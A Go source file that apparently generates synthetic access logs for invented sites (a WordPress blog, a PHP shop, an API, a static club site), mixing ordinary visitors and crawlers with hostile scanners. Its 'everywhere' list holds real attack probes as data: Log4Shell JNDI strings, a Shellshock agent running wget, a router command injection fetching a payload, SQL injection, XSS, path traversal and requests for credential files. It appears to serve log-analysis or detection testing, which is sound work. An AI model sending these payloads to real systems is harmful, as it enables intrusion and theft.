package made

import (
	"fmt"
	"net/url"
	"strconv"
	"strings"
	"time"
)

// AppendCombined writes it as a line of an access log in combined format, its end included. What only
// an API knows of who sends is left out.
func (x *Exchange) AppendCombined(b []byte) []byte {
	b = x.Client.AppendTo(b)
	b = append(b, " - - ["...)
	b = x.At.UTC().AppendFormat(b, "02/Jan/2006:15:04:05 -0700")
	b = append(b, `] "`...)
	b = append(append(append(b, x.Method...), ' '), x.Path...)
	if x.Method != "" {
		b = append(b, " HTTP/1.1"...)
	}
	b = append(b, `" `...)
	b = append(strconv.AppendInt(b, int64(x.Status), 10), ' ')
	b = strconv.AppendInt(b, int64(x.Bytes), 10)
	for _, field := range [...]string{x.Referer, x.Agent} {
		if field == "" {
			field = "-"
		}
		b = append(append(append(b, ` "`...), strings.ReplaceAll(field, `"`, `\"`)...), '"')
	}
	return append(b, '\n')
}

// A Site is a web site of some kind, as its access log shows it: who comes and does no harm, and who
// looks for what is not there, or guesses at what is.
type Site struct {
	Name  string
	About string
	Open  func(*Traffic)
}

// Sites that the logs at hand are none of.
var Sites = []Site{
	{"blog", "WordPress: people sign in at wp-login.php, apps use xmlrpc.php, feeds are read", (*Traffic).blog},
	{"shop", "PHP: searches with odd letters, carts, a back office under /admin, missing pictures", (*Traffic).shop},
	{"service", "an API for apps and partners: no referers, posts, expired tokens, health checks, no user agents", (*Traffic).service},
	{"town", "static pages in another language, few visitors, old bookmarks, dead links, link checkers", (*Traffic).town},
}

// webAgents are programs that people read pages with.
var webAgents = append([]string{
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Linux; Android 14; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/27.0 Chrome/125.0.0.0 Mobile Safari/537.36",
	"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
}, browsers...)

// A house is what all visitors of a site have in common.
type house struct {
	*Traffic
	host    string
	pages   []string // there
	gone    []string // linked to from elsewhere, and no more
	assets  []string // that pages draw in
	missing []string // drawn in or asked for by programs, and never there
	size    map[string]int
}

func (t *Traffic) house(host string, pages, gone, assets, missing []string) *house {
	h := &house{t, host, pages, gone, assets, missing, map[string]int{}}
	for _, p := range append(append([]string{}, pages...), assets...) {
		h.size[p] = 900 + t.IntN(40_000)
	}
	return h
}

const notFound = 1245 // bytes of a page that says so

func (h *house) at(path string) string { return "https://" + h.host + path }

// ask for a path, sent there by a page or by none.
func (h *house) ask(wait time.Duration, method, path string, status, bytes int, from string) step {
	return step{h.about(wait), method, path, status, bytes, func(x *Exchange) { x.Referer = from }}
}

func (h *house) page(wait time.Duration, from string) (plan []step) {
	p := pick(h.Traffic, h.pages)
	plan = append(plan, h.ask(wait, "GET", p, 200, h.size[p]+h.IntN(300), from))
	for range 1 + h.IntN(4) {
		a := pick(h.Traffic, h.assets)
		status := 200
		if h.chance(30) {
			status = 304
		}
		plan = append(plan, h.ask(200*time.Millisecond, "GET", a, status, h.size[a], h.at(p)))
	}
	if h.chance(25) {
		plan = append(plan, h.ask(200*time.Millisecond, "GET", pick(h.Traffic, h.missing), 404, notFound, ""))
	}
	return plan
}

// reader comes from a search or a bookmark, and reads a few pages.
func (h *house) reader(more func() []step) {
	who := Exchange{Client: h.address(), Agent: pick(h.Traffic, webAgents)}
	h.join(who, h.sometime(), func() []step {
		from := pick(h.Traffic, []string{"", "https://www.google.com/", "https://duckduckgo.com/", "https://t.co/Zx81kk"})
		var plan []step
		if h.chance(6) { // an old bookmark, or a link from elsewhere to what is no more
			plan = append(plan, h.ask(9*time.Hour, "GET", pick(h.Traffic, h.gone), 404, notFound, pick(h.Traffic, []string{"", "https://old.example.net/links.html"})))
		}
		for range 1 + h.IntN(4) {
			plan = append(plan, h.page(20*time.Second, from)...)
			from = h.at(h.pages[0])
		}
		if more != nil && h.chance(20) {
			plan = append(plan, more()...)
		}
		plan[0].wait += h.about(20 * time.Hour)
		return plan
	})
}

// robots read a site, ask for its rules, its feeds and for what is no more.
func (h *house) robots(n int, feeds []string) {
	for i := range n {
		agent := pick(h.Traffic, []string{
			"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
			"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)",
			"Tiny Tiny RSS/22.06 (https://tt-rss.org/)", "W3C-checklink/5.0 libwww-perl/6.67", "LinkChecker/10.2 (+https://linkchecker.github.io/linkchecker/)",
			"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Twitterbot/1.0", "ia_archiver (+http://www.alexa.com/site/help/webmasters; crawler@alexa.com)",
			"Wget/1.24.5", "python-requests/2.32.3", "Java/17.0.10", "", "GoogleImageProxy", "curl/8.9.1", "msnbot/2.0b (+http://search.msn.com/msnbot.htm)",
		})
		who := Exchange{Client: h.address(), Agent: agent}
		reads, checks := i%3 == 1, strings.Contains(agent, "heck")
		h.join(who, h.sometime(), func() []step {
			if reads && len(feeds) > 0 {
				f := pick(h.Traffic, feeds)
				return []step{h.ask(30*time.Minute, "GET", f, 200, 30_000, ""), h.ask(time.Second, "GET", "/favicon.ico", 404, notFound, "")}
			}
			plan := []step{h.ask(3*time.Hour, "GET", "/robots.txt", 200, 60, "")}
			for range 3 + h.IntN(25) {
				p, method := pick(h.Traffic, h.pages), "GET"
				if checks {
					method = "HEAD"
				}
				s := h.ask(12*time.Second, method, p, 200, h.size[p], "")
				switch {
				case h.chance(14):
					s = h.ask(12*time.Second, method, pick(h.Traffic, h.gone), 404, notFound, "")
				case h.chance(6):
					s = h.ask(12*time.Second, method, pick(h.Traffic, h.missing), 404, notFound, "")
				case h.chance(2): // what a program takes for a link that reads scripts badly
					s = h.ask(12*time.Second, method, p+pick(h.Traffic, []string{"%7B%7Burl%7D%7D", "'+link+'", "%22%20+%20path%20+%20%22", "http://other.example/"}), 404, notFound, "")
				}
				plan = append(plan, s)
			}
			return plan
		})
	}
}

// watcher asks again and again whether the site is well.
func (h *house) watcher(agent, path string, every time.Duration) {
	h.join(Exchange{Client: h.address(), Agent: agent}, h.about(every), func() []step {
		return []step{h.ask(every, pick(h.Traffic, []string{"GET", "HEAD"}), path, 200, 300, "")}
	})
}

// A try is what somebody looks for, and what he is told: 0 stands for 404.
type try struct {
	method, path string
	status       int
	agent        string // where the program's name is what matters
	from         string // likewise
}

func tries(method string, paths ...string) (all []try) {
	for _, p := range paths {
		all = append(all, try{method: method, path: p})
	}
	return all
}

// everywhere is looked for by who looks for it everywhere: one errand each. The names are those of
// programs and entries of the CVE list.
var everywhere = [][]try{
	tries("GET", "/.env"), tries("GET", "/.git/config"), tries("GET", "/.git/HEAD", "/.svn/entries"), tries("GET", "/.aws/credentials", "/.env.production"),
	tries("GET", "/api/.env", "/core/.env", "/backend/.env"), tries("GET", "/.DS_Store", "/.vscode/sftp.json"), tries("GET", "/config.json.bak", "/db.sql.gz"),
	tries("HEAD", "/backup.zip", "/www.zip", "/site.tar.gz", "/dump.sql"), tries("GET", "/phpmyadmin/index.php?lang=en"), tries("GET", "/pma/", "/phpMyAdmin/"),
	tries("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), tries("GET", "/vendor/htmlawed/htmlawed/htmLawedTest.php"),
	tries("GET", "/solr/admin/info/system?wt=json"), tries("GET", "/actuator/health", "/actuator/env"), tries("GET", "/_ignition/execute-solution"),
	tries("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x"),
	tries("POST", "/boaform/admin/formLogin"), tries("GET", "/HNAP1/"), tries("POST", "/GponForm/diag_Form?images/"),
	tries("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"), tries("GET", "/owa/auth/logon.aspx"), tries("POST", "/autodiscover/autodiscover.json?@zdi/PowerShell"),
	tries("GET", "/manager/html"), tries("GET", "/console/"), tries("GET", "/struts2-showcase/index.action"), tries("GET", "/server-status"),
	{{"GET", "/", 200, "${jndi:ldap://198.18.7.7:1389/a}", ""}},
	{{"GET", "/", 200, "Mozilla/5.0", "${jndi:${lower:l}dap://198.18.7.8/x}"}},
	{{"GET", "/", 200, "() { :;}; /bin/bash -c \"wget http://198.18.7.9/x\"", ""}},
	{{"GET", "/?q=${jndi:dns://198.18.9.1/a}", 200, "", ""}},
	{{"GET", "http://198.18.1.1/echo.php", 0, "", ""}},
	{{"CONNECT", "smtp.example.net:25", 405, "", ""}},
	{{"CONNECT", "www.example.net:443", 400, "", ""}},
	{{"PROPFIND", "/", 405, "", ""}},
	{{"SEARCH", "/" + strings.Repeat(`\x90\x02\xb1\x02`, 40), 414, "", ""}},
	{{"get", "/scripts/..%c0%af..%c0%af..%c0%af../winnt/system32/cmd.exe?/c+dir", 501, "", ""}},
	tries("GET", "/?id=1%2527%2520union%2520select%25201,2,3--"), tries("GET", "/index.php?id=1'+AND+SLEEP(5)--+-"), tries("GET", "/page.php?id=-1/**/UNION/**/ALL/**/SELECT/**/1,user()"),
	tries("GET", "/?search=%3Cscript%3Ealert(1)%3C/script%3E"), tries("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"), tries("GET", "/static/../../../../etc/passwd"),
	tries("GET", "/download?file=../../../../etc/passwd"), tries("GET", "/shell.php", "/alfa.php", "/wso.php"), tries("GET", "/w00tw00t.at.ISC.SANS.DFind:)"),
	tries("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.18.2.2/m"), tries("GET", "/ReportServer", "/Telerik.Web.UI.WebResource.axd?type=rau"),
	tries("GET", "/admin/config.php", "/administrator/index.php"), tries("GET", "/fckeditor/editor/filemanager/connectors/test.html"),
	tries("POST", "/sdk"), tries("GET", "/evox/about", "/nmaplowercheck1700000000"), tries("GET", "/hudson", "/jenkins/login"), tries("GET", "/login.action", "/pages/createpage-entervariables.action"),
	tries("POST", "/mgmt/tm/util/bash"), tries("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"), tries("GET", "/dana-na/auth/url_default/welcome.cgi"),
	tries("GET", "/global-protect/login.esp"), tries("GET", "/+CSCOE+/logon.html"), tries("GET", "/php/ztp_gate.php/.js.map"), tries("POST", "/json/setup-restore.action"),
	tries("PUT", "/api/v2/cmdb/system/admin/admin"), tries("GET", "/remote_agent.php?action=polldata&poller_id=;id"), tries("POST", "/ghost/api/admin/session"),
	tries("GET", "/geoserver/web/"), tries("GET", "/api/v1/pods"), tries("GET", "/v2/_catalog"), tries("GET", "/_all_dbs"), tries("GET", "/druid/index.html"),
	tries("GET", "/telescope/requests", "/_profiler/phpinfo"), tries("GET", "/phpinfo.php", "/info.php", "/test.php"), tries("GET", "/sitecore/shell/sitecore.version.xml"),
	tries("POST", "/xmlrpc.php", "/blog/xmlrpc.php"), tries("GET", "/wp-content/plugins/wp-file-manager/readme.txt"), tries("GET", "/wp-config.php.bak", "/wp-config.php~"),
	tries("GET", "/wordpress/wp-login.php", "/blog/wp-login.php", "/wp/wp-login.php"), tries("GET", "/user/register", "/node/add"), tries("GET", "/magento_version", "/downloader/"),
}

// strangers come for one errand each, from anywhere; of some a site has what they look for, and
// answers so.
func (h *house) strangers(n int, skip ...string) {
	agents := append([]string{"", "Mozilla/5.0", "Go-http-client/1.1", "python-requests/2.31.0", "curl/7.88.1", "Mozilla/5.0 zgrab/0.x", "libwww-perl/6.68"}, webAgents[:4]...)
	for i := range n {
		errand := everywhere[i%len(everywhere)]
		who := Exchange{Client: h.address(), Agent: pick(h.Traffic, agents), Kind: Hostile}
		var plan []step
		for _, t := range errand {
			if has(skip, t.path) {
				continue
			}
			status := t.status
			if status == 0 {
				status = 404
			}
			plan = append(plan, step{h.about(2 * time.Second), t.method, t.path, status, notFound, func(x *Exchange) {
				x.Referer = t.from
				if t.agent != "" {
					x.Agent = t.agent
				}
			}})
		}
		h.join(who, settledIn+h.sometime()*2, once(plan))
	}
}

func has(beginnings []string, path string) bool {
	for _, b := range beginnings {
		if strings.HasPrefix(path, b) {
			return true
		}
	}
	return false
}

// alwaysMissing is what programs ask every site for, and few have.
var alwaysMissing = []string{
	"/favicon.ico", "/apple-touch-icon.png", "/apple-touch-icon-precomposed.png", "/ads.txt", "/.well-known/assetlinks.json", "/.well-known/traffic-advice",
	"/.well-known/security.txt", "/sitemap.xml", "/browserconfig.xml", "/apple-touch-icon-120x120.png", "/humans.txt", "/manifest.json",
}

func numbered(n int, format string) (all []string) {
	for i := range n {
		all = append(all, fmt.Sprintf(format, 3+i*7))
	}
	return all
}

// blog is one that WordPress runs.
func (t *Traffic) blog() {
	assets := []string{"/wp-content/themes/calm/style.css?ver=2.1", "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1", "/wp-content/uploads/2025/03/hill-1024x768.jpg", "/wp-content/plugins/contact-form-7/includes/css/styles.css"}
	gone := append(numbered(20, "/2016/04/old-%d/"), "/wp-content/uploads/2012/05/gone.jpg", "/wp-content/plugins/old-gallery/gallery.js", "/blog/", "/?page_id=9", "/wp-content/themes/retired/style.css")
	h := t.house("blog.example", append(numbered(40, "/2025/02/post-%d/"), "/", "/about/", "/?p=77", "/category/travel/", "/tag/sea/"), gone, assets, alwaysMissing)
	for range 400 {
		h.reader(func() []step {
			q := pick(h.Traffic, []string{"rock+%27n%27+roll", "a+%3C+b", "l%27%C3%A9t%C3%A9", "select+committee+union", "c%2B%2B+%22hello%22", "50%25+off"})
			return []step{
				h.ask(9*time.Second, "GET", "/?s="+q, 200, 12_000, h.at("/")),
				h.ask(40*time.Second, "POST", "/wp-comments-post.php", 302, 0, h.at("/2025/02/post-3/")),
				h.ask(time.Second, "GET", "/wp-json/contact-form-7/v1/contact-forms/5/refill", 200, 90, h.at("/")),
			}
		})
	}
	for i := range 8 { // who writes: from home, with the app, and wrong now and then
		who := Exchange{Client: h.address(), Agent: pick(h.Traffic, webAgents[:4])}
		app := i%4 == 3
		h.join(who, h.sometime(), func() []step {
			if app {
				who := "/xmlrpc.php"
				return []step{h.ask(7*time.Hour, "POST", who, 200, 700, ""), h.ask(2*time.Second, "POST", who, 200, 4000, ""), h.ask(2*time.Second, "POST", who, 200, 500, "")}
			}
			plan := []step{
				h.ask(9*time.Hour, "GET", "/wp-admin/", 302, 0, ""), h.ask(time.Second, "GET", "/wp-login.php?redirect_to=https%3A%2F%2Fblog.example%2Fwp-admin%2F&reauth=1", 200, 5100, ""),
				h.ask(time.Second, "GET", "/wp-admin/css/login.min.css?ver=6.8", 200, 9000, h.at("/wp-login.php")),
			}
			if h.chance(20) {
				plan = append(plan, h.ask(9*time.Second, "POST", "/wp-login.php", 200, 5400, h.at("/wp-login.php")))
			}
			plan = append(plan, h.ask(9*time.Second, "POST", "/wp-login.php", 302, 0, h.at("/wp-login.php")), h.ask(time.Second, "GET", "/wp-admin/", 200, 60_000, h.at("/wp-login.php")),
				h.ask(time.Second, "GET", "/wp-admin/load-styles.php?c=1", 200, 50_000, h.at("/wp-admin/")))
			for range 3 + h.IntN(9) {
				plan = append(plan, h.ask(15*time.Second, "POST", "/wp-admin/admin-ajax.php", 200, 70, h.at("/wp-admin/post.php")), h.ask(30*time.Second, "GET", "/wp-admin/post.php?post=9&action=edit", 200, 40_000, h.at("/wp-admin/")))
			}
			return plan
		})
	}
	h.join(Exchange{Client: h.address(), Agent: "WordPress/6.8; https://blog.example"}, 0, func() []step { // itself
		return []step{h.ask(10*time.Minute, "POST", "/wp-cron.php?doing_wp_cron=1757203200.11", 200, 0, "")}
	})
	h.watcher("Jetpack by WordPress.com (Jetpack Site Uptime Monitor by WordPress.com)", "/", 5*time.Minute)
	h.robots(60, []string{"/feed/", "/comments/feed/", "/feed/atom/"})
	h.strangers(2*len(everywhere), "/xmlrpc.php", "/wp-content")
	for i := range 12 { // guessers at what is there
		who := Exchange{Client: h.address(), Agent: pick(h.Traffic, webAgents), Kind: Hostile}
		path := pick(h.Traffic, []string{"/wp-login.php", "/xmlrpc.php"})
		var plan []step
		if i%3 == 0 {
			for n := range 4 {
				plan = append(plan, h.ask(time.Second, "GET", fmt.Sprintf("/?author=%d", n+1), []int{301, 404}[min(n, 1)], 900, ""))
			}
			path = "/wp-login.php"
		}
		for range 12 + h.IntN(30) {
			plan = append(plan, h.ask(4*time.Second, "POST", path, 200, 5400+h.IntN(9), ""))
		}
		h.join(who, h.soon(), once(plan))
	}
}

// shop is one that was written in PHP, with its own back office.
func (t *Traffic) shop() {
	assets := []string{"/skin/main.css", "/js/cart.js", "/media/logo.png", "/media/catalog/cup-blue.jpg"}
	missing := append([]string{"/media/catalog/none.jpg", "/js/cart.js.map", "/media/banner-summer.gif"}, alwaysMissing...)
	gone := append(numbered(20, "/product.php?id=%d"), "/angebote.php", "/katalog/index.php", "/shop/old/", "/newsletter.php")
	h := t.house("shop.example", append(numbered(60, "/artikel.php?nr=%d"), "/", "/index.php", "/suche.php", "/kontakt.php"), gone, assets, missing)
	for range 400 {
		h.reader(func() []step {
			q := pick(h.Traffic, []string{"tasse 'blau'", `12" teller`, "<3", "select", "drop shipping; gratis", "kaffee & kuchen", "30% off (neu)", "c'est la vie", "100 or 200", "a=b"})
			plan := []step{
				h.ask(9*time.Second, "GET", "/suche.php?q="+url.QueryEscape(q)+"&utm_source="+strings.Repeat("x", h.IntN(300)), 200, 9000, h.at("/")),
				h.ask(9*time.Second, "POST", "/warenkorb.php", 302, 0, h.at("/artikel.php")), h.ask(time.Second, "GET", "/warenkorb.php", 200, 4000, h.at("/artikel.php")),
			}
			if h.chance(50) {
				if h.chance(20) {
					plan = append(plan, h.ask(9*time.Second, "POST", "/konto/login.php", 200, 3100, h.at("/konto/login.php")))
				}
				plan = append(plan, h.ask(9*time.Second, "POST", "/konto/login.php", 302, 0, h.at("/konto/login.php")), h.ask(time.Second, "GET", "/konto/index.php?weiter=https%3A%2F%2Fshop.example%2Fkasse.php%3Fa%3D1", 200, 7000, h.at("/konto/login.php")),
					h.ask(30*time.Second, "POST", "/kasse.php", 302, 0, h.at("/kasse.php")))
			}
			return plan
		})
	}
	for range 3 { // who works there
		who := Exchange{Client: h.address(), Agent: pick(h.Traffic, browsers)}
		h.join(who, 8*time.Hour, func() []step {
			plan := []step{h.ask(9*time.Hour, "GET", "/admin/", 302, 0, ""), h.ask(time.Second, "GET", "/admin/login.php", 200, 2000, ""), h.ask(time.Second, "GET", "/skin/admin.css", 200, 2000, h.at("/admin/login.php")), h.ask(9*time.Second, "POST", "/admin/login.php", 302, 0, h.at("/admin/login.php"))}
			for range 10 {
				plan = append(plan, h.ask(40*time.Second, "GET", fmt.Sprintf("/admin/index.php?order=%d", h.IntN(9000)), 200, 9000, h.at("/admin/index.php")), h.ask(9*time.Second, "GET", "/phpmyadmin/index.php", 200, 12_000, ""))
			}
			return plan
		})
	}
	h.watcher("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "/", 5*time.Minute)
	h.robots(60, []string{"/rss.php", "/export/prices.xml"})
	h.strangers(2*len(everywhere), "/phpmyadmin", "/phpMyAdmin", "/admin")
	for range 8 {
		var plan []step
		for range 12 + h.IntN(30) {
			plan = append(plan, h.ask(4*time.Second, "POST", "/konto/login.php", 200, 3100, ""))
		}
		h.join(Exchange{Client: h.address(), Agent: pick(h.Traffic, webAgents), Kind: Hostile}, h.soon(), once(plan))
	}
}

// service is an API that apps and partners call through a balancer.
func (t *Traffic) service() {
	h := t.house("api.example", []string{"/v1/status", "/v1/catalogue"}, []string{"/v0/catalogue", "/v0/config", "/docs/old"}, []string{"/docs/swagger.css"}, alwaysMissing)
	for i := range 300 { // apps: a token runs out now and then
		who := Exchange{Client: h.address(), Agent: pick(h.Traffic, append([]string{"okhttp/4.12.0", "Dart/3.4 (dart:io)", "MyApp/412 CFNetwork/1568.300.101 Darwin/24.2.0", ""}, phones...))}
		h.join(who, h.sometime(), func() []step {
			plan := []step{h.ask(8*time.Hour, "POST", "/v1/oauth/token", 200, 900, "")}
			if i%5 == 0 {
				plan = append(plan, h.ask(time.Second, "GET", "/v0/config", 404, 60, ""))
			}
			for range 4 + h.IntN(20) {
				switch {
				case h.chance(4):
					plan = append(plan, h.ask(20*time.Minute, "GET", "/v1/me", 401, 40, ""), h.ask(time.Second, "POST", "/v1/oauth/token", 200, 900, ""))
				case h.chance(30):
					plan = append(plan, h.ask(3*time.Second, "POST", "/v1/events", 202, 0, ""))
				case h.chance(10):
					plan = append(plan, h.ask(3*time.Second, "GET", fmt.Sprintf("/v1/items/%d/image", h.IntN(900)), 404, 40, ""))
				default:
					plan = append(plan, h.ask(3*time.Second, "GET", fmt.Sprintf("/v1/items/%d?fields=%s", h.IntN(900), url.QueryEscape(`{"a":["b","c"],"$or":1}`)), 200, 900, ""))
				}
			}
			return plan
		})
	}
	for i := range 20 { // partners: batches, hooks, a wrong version once
		who := Exchange{Client: h.address(), Agent: pick(h.Traffic, append([]string{"", "PostmanRuntime/7.43.0", "Stripe/1.0 (+https://stripe.com/docs/webhooks)", "GuzzleHttp/7"}, sdks...))}
		h.join(who, h.sometime(), func() []step {
			plan := []step{h.ask(2*time.Hour, "POST", "/hooks/payments", 200, 2, "")}
			for k := range 10 + h.IntN(30) {
				plan = append(plan, h.ask(2*time.Second, pick(h.Traffic, []string{"PUT", "PATCH", "GET", "DELETE"}), fmt.Sprintf("/v1/stock/%d", 1000*i+k), 200, 90, ""))
			}
			return plan
		})
	}
	for range 2 {
		h.watcher("ELB-HealthChecker/2.0", "/healthz", time.Minute)
	}
	h.watcher("kube-probe/1.31", "/readyz", time.Minute)
	h.watcher("", "/v1/status", 5*time.Minute)
	h.robots(10, nil)
	h.strangers(2*len(everywhere), "/api/v1/", "/?", "/page")
}

// town is static, in another language, and has few visitors.
func (t *Traffic) town() {
	pages := []string{"/", "/index.html", "/verein/vorstand.html", "/%D0%BD%D0%BE%D0%B2%D0%BE%D1%81%D1%82%D0%B8/", "/k%C3%B6nig/", "/stra%DFe.html", "/bilder/2004/", "/termine.pdf", "/foto/%E6%9D%B1%E4%BA%AC.html"}
	gone := append(numbered(15, "/alt/seite%d.htm"), "/gaestebuch/eintrag.pl", "/index.php?page=termine", "/index.asp", "/cgi-bin/counter.pl", "/termine.html%20", "/verein/vorstand.html)", "/verein/vorstand.html,", "/forum/viewtopic.php?t=12")
	h := t.house("stadtverein.example", pages, gone, []string{"/stil.css", "/bilder/wappen.gif", "/bilder/hintergrund.jpg"}, append([]string{"/bilder/fehlt.gif", "/sounds/intro.mid"}, alwaysMissing...))
	for range 120 {
		h.reader(nil)
	}
	h.robots(60, nil)
	h.watcher("check_http/v2.3.3 (monitoring-plugins 2.3.3)", "/", 10*time.Minute)
	h.strangers(len(everywhere))
}
